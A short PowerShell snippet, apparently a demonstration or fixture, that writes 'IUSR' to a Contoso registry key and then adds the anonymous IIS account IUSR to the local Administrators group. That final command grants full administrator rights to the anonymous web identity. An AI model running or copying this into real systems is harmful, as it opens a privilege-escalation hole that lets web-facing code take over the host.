New-Item HKLM:\SOFTWARE\Contoso -Force | Out-Null
Set-ItemProperty HKLM:\SOFTWARE\Contoso -Name Account -Value IUSR
$account = (Get-ItemProperty HKLM:\SOFTWARE\Contoso).Account
if ((Get-ItemPropertyValue HKLM:\SOFTWARE\Contoso -Name Account) -eq 'IUSR') { net localgroup Administrators IUSR /add }
